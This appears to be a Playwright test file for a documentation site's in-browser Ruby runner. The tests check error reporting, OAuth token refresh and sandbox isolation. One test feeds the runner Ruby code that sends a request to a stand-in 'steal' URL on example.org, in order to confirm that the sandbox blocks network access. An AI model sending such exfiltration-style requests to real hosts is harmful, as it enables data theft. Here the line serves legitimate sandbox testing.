import { expect, test, type RunnerPage } from './runnerPage';

/**
 * Ruby in the page (ruby.wasm), as a reader uses it: the runner's promises for every language,
 * held for Ruby. Every example's own run is in examples.spec.ts.
 */
const fetchToken = { page: '/docs/client-credentials', id: 'client-credentials/fetch-token' };
const ropc = { page: '/docs/resource-owner-password', id: 'resource-owner-password/fetch-token' };

async function openRuby(
  {
    site,
    runnerFor,
  }: { site: { goto(path: string): Promise<void> }; runnerFor: (id: string) => RunnerPage },
  where: { page: string; id: string },
): Promise<RunnerPage> {
  await site.goto(where.page);
  const runner = runnerFor(where.id);
  await runner.chooseLanguage('Ruby');
  return runner;
}

test.describe('Ruby in the page', () => {
  // The first run of each test downloads and starts ruby.wasm (about 30 MB raw) in a new page.
  test.describe.configure({ timeout: 90_000 });

  test('an exception shows at its line of the snippet, without the SDK frames', async ({
    site,
    runnerFor,
  }) => {
    const runner = await openRuby({ site, runnerFor }, fetchToken);
    await runner.replaceCode(
      [
        "require 'sdk'",
        'include Sdk',
        "puts 'before'",
        'client = Client.new(client_credentials_auth_credentials: ClientCredentialsAuthCredentials.new(',
        "  o_auth_client_id: 'OAuthClientId', o_auth_client_secret: 'wrong'))",
        'client.http_ccg.fetch_token',
      ].join('\n'),
    );
    await runner.run();
    expect(await runner.waitForEnd(60_000)).toMatch(
      /^Failed after .*: Sdk::OAuthProviderException \(invalid_client\) on line 6: /,
    );
    const lines = await runner.consoleLines();
    expect(lines[0]).toBe('before');
    // The frame names the file the Output names (the snippet's path), and no SDK file.
    expect(lines[1]).toMatch(
      /^client-credentials\/fetch-token\/ruby\.rb:6:in '<main>': .*\(Sdk::OAuthProviderException\)$/,
    );
    expect(lines.join('\n')).not.toMatch(/lib\/sdk|runner_host/);
    await expect(runner.http).toContainText('401 Unauthorized');
  });

  test('a syntax error shows its line and column, and nothing runs', async ({
    site,
    runnerFor,
  }) => {
    const runner = await openRuby({ site, runnerFor }, fetchToken);
    await runner.replaceCode("puts 'this must not print'\nbroken = (;\n");
    await runner.run();
    expect(await runner.waitForEnd(60_000)).toMatch(
      /^Syntax error on line 2, column \d+: .+\. Nothing ran\.$/,
    );
    await expect(runner.output.getByLabel('Where the syntax error is')).toContainText(
      '> 2 | broken = (;',
    );
    expect(await runner.consoleLines()).toEqual([]);
  });

  test('a request to a real host fails with the URL named, and never leaves the page', async ({
    site,
    runnerFor,
    page,
  }) => {
    const outside: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith('http://127.0.0.1')) outside.push(request.url());
    });
    const runner = await openRuby({ site, runnerFor }, fetchToken);
    await runner.replaceCode(
      "require 'net/http'\nNet::HTTP.get(URI('https://www.example.org/steal?x=1'))",
    );
    await runner.run();
    expect(await runner.waitForEnd(60_000)).toMatch(
      /^Failed after .*: SocketError on line 2: GET https:\/\/www\.example\.org\/steal\?x=1 was blocked: the sandbox has no network access/,
    );
    await expect(runner.http).toContainText('GET https://www.example.org/steal?x=1 blocked');
    expect(outside).toEqual([]);
  });

  test('advancing the clock during a run expires the token, and the refresh shows in the inspector', async ({
    site,
    runnerFor,
  }) => {
    const runner = await openRuby({ site, runnerFor }, ropc);
    await runner.replaceCode(
      [
        "require 'sdk'",
        'include Sdk',
        'client = Client.new(resource_owner_auth_credentials: ResourceOwnerAuthCredentials.new(',
        "  o_auth_client_id: 'OAuthClientId', o_auth_client_secret: 'OAuthClientSecret',",
        "  o_auth_username: 'OAuthUsername', o_auth_password: 'OAuthPassword'))",
        'client.items_controller.list_items',
        "puts 'Waiting for the clock'",
        'sleep 0.05 until client.http_ropcg.token_expired?',
        'response = client.items_controller.list_items',
        'puts "Called again: #{response.status_code}"',
      ].join('\n'),
    );
    await runner.run();
    await expect(runner.console).toContainText('Waiting for the clock', { timeout: 60_000 });
    await runner.button('+1 h').click();
    expect(await runner.waitForEnd()).toMatch(/^Finished/);
    expect(await runner.consoleLines()).toContain('Called again: 200');
    const items = runner.http.getByRole('listitem');
    await expect(items.filter({ hasText: /^Clock advanced by 1 h/ })).toHaveCount(1);
    // Token (password grant), API, clock note, token (refresh grant), API.
    await expect(items).toHaveCount(5);
    await items.nth(3).locator('summary').click();
    await expect(items.nth(3)).toContainText(/grant_type\s*:?\s*refresh_token/);
  });
});
